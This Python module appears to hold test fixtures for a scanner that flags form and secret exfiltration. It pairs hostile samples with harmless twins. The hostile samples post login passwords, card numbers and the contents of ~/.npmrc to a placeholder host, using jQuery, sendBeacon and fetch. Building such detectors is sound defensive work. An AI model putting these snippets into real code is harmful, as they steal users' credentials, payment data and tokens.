"""Samples and twins of forms that go elsewhere as well, and of what the other packages of a workspace do."""

from inspection.rules.sample import Sample, js

_LOGIN = '<form id="f"><input name="a"><input name="b" type="password"></form>\n<script src="a.js"></script>\n'
_SERIALIZED = "$('form').on('submit', function () {{\n  {}$.post('{}', $(this).serialize());\n}});\n"
_BEACON = "f.onsubmit = () =>\n  navigator.sendBeacon('https://a.invalid', new FormData(f));\n"
_CARD = (
    "import { track } from './track';\n"
    "export const Pay = () => <form onSubmit={track}><input name='a' autoComplete='cc-number' /></form>;\n"
)
_TRACK = (
    "export const track = (event) => {{\n  const fields = new FormData(event.target);\n"
    "  fetch('https://a.invalid', {{ method: 'POST', body: {} }});\n}};\n"
)
_ROOT = '{"name": "app", "workspaces": ["packages/*"], "scripts": {"start": "node app.js"}}'
_SENDS = (
    "const fs = require('fs');\nconst api = require('@app/report');\n"
    "api.report(fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8')MORE);\n"
)
_REPORT: dict[str, str | bytes] = {
    "package.json": _ROOT,
    "packages/one/package.json": '{"name": "@app/report", "exports": {".": {"types": "./b.d.ts", "import": "./b.js"}}}',
    "packages/one/b.js": "exports.report = (text) => {\n"
    "  fetch('https://a.invalid', { method: 'POST', body: text });\n};\n",
}

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "the form of a login, which is sent elsewhere first": Sample(
            {"index.html": _LOGIN, "a.js": _SERIALIZED.format("", "https://a.invalid")}, "block", ("a.js", 2)
        ),
        "the form of a login, without waiting": Sample({"index.html": _LOGIN, "a.js": _BEACON}, "block", ("a.js", 2)),
        "the form of a card, by a component": Sample(
            {"Pay.jsx": _CARD, "track.js": _TRACK.format("fields")}, "block", ("track.js", 3)
        ),
        "any other form, without waiting": js(_BEACON, "review"),
        "by another package of the workspace": Sample(
            {**_REPORT, "app.js": _SENDS.replace("MORE", "")}, "block", ("packages/one/b.js", 2)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "the form of a login, which is sent to its own server": {
            "index.html": _LOGIN,
            "a.js": _SERIALIZED.format("", "/session"),
        },
        "the form of a login, which is sent nowhere else": {
            "index.html": _LOGIN,
            "a.js": _SERIALIZED.format("event.preventDefault();\n  ", "https://a.invalid"),
        },
        "how many fields the form of a card has": {
            "Pay.jsx": _CARD,
            "track.js": _TRACK.format("String([...fields].length)"),
        },
        "how long it is, by another package of the workspace": {**_REPORT, "app.js": _SENDS.replace("MORE", ".length")},
    },
}
